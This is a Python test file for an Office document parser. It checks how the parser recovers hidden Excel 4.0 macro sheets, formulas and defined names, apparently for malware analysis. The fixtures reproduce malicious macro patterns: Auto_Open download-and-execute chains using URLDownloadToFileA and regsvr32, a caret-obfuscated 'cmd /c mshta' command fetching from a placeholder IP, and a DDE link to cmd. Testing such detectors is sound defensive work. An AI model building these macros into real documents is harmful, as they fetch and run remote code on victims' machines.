"""One plan, every shell: the same sheets, formulas and names come out of each."""

import pytest
from support.office.xlm_shells import DOWNLOAD, SHELLS, december_2021, joined, spring_2022
from support.office.xlm_writer import BookPlan, SheetPlan

from mimawari.formats.office.parts import Notes
from mimawari.model import Sheet

every_shell = pytest.mark.parametrize("shell", SHELLS)


@every_shell
def test_a_download_with_fallback(shell: str) -> None:
    notes = Notes()
    book = SHELLS[shell](spring_2022(), notes)
    assert notes.taken == []
    assert book.sheets == (
        Sheet(name="Sheet1"),
        Sheet(name="Sheet2", state="hidden"),
        Sheet(name="GGDD", form="macrosheet", state="very-hidden"),
    )
    formulas = {(one.sheet, one.cell): one for one in book.formulas}
    assert formulas["GGDD", "D1"].text == DOWNLOAD.format(cell="Sheet2!$B$3")
    assert formulas["GGDD", "D3"].text == "IF(HLDX<0," + DOWNLOAD.format(cell="Sheet2!$B$4") + ")"
    assert formulas["GGDD", "D5"].text == "IF(HLDX<0,CLOSE(0),)"
    assert formulas["GGDD", "D7"].text == 'EXEC("C:\\Windows\\SysWow64\\regsvr32.exe /S ..\\wn1.ocx")'
    assert formulas["GGDD", "D9"].text == "RETURN()"
    assert formulas["Sheet2", "B3"].value == "http://one.example.com/a/"
    assert formulas["GGDD", "D1"].folded == DOWNLOAD.format(cell='"http://one.example.com/a/"')
    assert set(formulas) == {("GGDD", f"D{row}") for row in (1, 3, 5, 7, 9)} | {("Sheet2", "B3"), ("Sheet2", "B4")}
    assert {name.name: (name.text, name.sheet) for name in book.defined_names} == {
        "_xlnm.Auto_Open": ("GGDD!$D$1", ""),
        "HLDX": ("GGDD!$D$1", ""),
    }


@every_shell
def test_a_command_in_a_name(shell: str) -> None:
    notes = Notes()
    book = SHELLS[shell](december_2021(), notes)
    assert notes.taken == []
    (first, second) = book.formulas
    command = '"cmd /c m^sh^t^a h^tt^p^:/^/192.0.2.7/fer/fe1.html"'
    assert (first.cell, first.text, first.folded) == ("J1", "EXEC(KKGH)", f"EXEC({command})")
    assert (second.cell, second.text, second.folded) == ("J2", "HALT()", "")
    name = book.defined_names[1]
    assert (name.name, name.text, name.sheet, name.hidden) == ("KKGH", command, "OO", True)
    assert book.sheets[1] == Sheet(name="OO", form="macrosheet", state="hidden")


@every_shell
def test_texts_in_pieces_are_joined(shell: str) -> None:
    book = SHELLS[shell](joined(), Notes())
    folded = {one.cell: one.folded for one in book.formulas if one.sheet == "M"}
    assert folded["B1"] == 'EXEC("regsvr32.exe -s ..\\x.ocx")'
    assert folded["B2"] == '"urlmon"'
    assert folded["B3"] == 'REGISTER("urlmon","URLDownloadToFileA","JJCCBB","Bvd",,1,9)'
    assert folded["B4"] == 'Bvd(0,"http://example.com/x","..\\x.ocx",0,0)'
    assert folded["B5"] == ""
    assert [one.value for one in book.formulas if one.sheet == "S"] == ["..\\x.ocx"]
    assert book.defined_names[1].name == "auto_openQX"


@every_shell
def test_a_link_to_another_program(shell: str) -> None:
    plan = BookPlan((SheetPlan("Sheet1", {"A1": "x"}, "worksheet"),), links=(("cmd", "/c calc", "A0"),))
    notes = Notes()
    book = SHELLS[shell](plan, notes)
    assert book.fields == ("cmd|'/c calc'!A0",)
    assert (book.formulas, notes.taken) == ((), [])


@every_shell
def test_an_honest_workbook_gives_its_sheets_only(shell: str) -> None:
    cells: dict[str, str | float] = {"A1": "品名", "A2": 12.5, "A3": "=SUM(A2:A2)", "A4": '=IF(A2>1,"a"&"b","c")'}
    notes = Notes()
    book = SHELLS[shell](BookPlan((SheetPlan("集計 表", cells, "worksheet"),)), notes)
    assert book.sheets == (Sheet(name="集計 表"),)
    assert (book.formulas, book.defined_names, book.fields, notes.taken) == ((), (), (), [])


@every_shell
def test_the_saved_text_of_a_formula(shell: str) -> None:
    plan = BookPlan((SheetPlan("M", {"A1": "=GET.WORKSPACE(1)", "A2": '="a""b"&A1'}, saved={"A1": "Windows (32-bit) NT 10.00"}),))
    first, second = SHELLS[shell](plan, Notes()).formulas
    assert (first.text, first.value) == ("GET.WORKSPACE(1)", "Windows (32-bit) NT 10.00")
    assert second.folded == '"a""bWindows (32-bit) NT 10.00"'


@every_shell
def test_operators_and_brackets_stay_as_they_were(shell: str) -> None:
    texts = ["-A1+2*(3-B2)^2", 'IF(A1>=2.5,"x",TRUE)', "SUM(A1:$B$2)<>'M 2'!C3", "FORMULA(A1&B2,C3)", "FWRITE(FOPEN(A1,3),B1)"]
    cells: dict[str, str | float] = {f"D{row}": f"={text}" for row, text in enumerate(texts, 1)}
    book = SHELLS[shell](BookPlan((SheetPlan("M 2", cells),)), Notes())
    assert [one.text for one in book.formulas] == texts
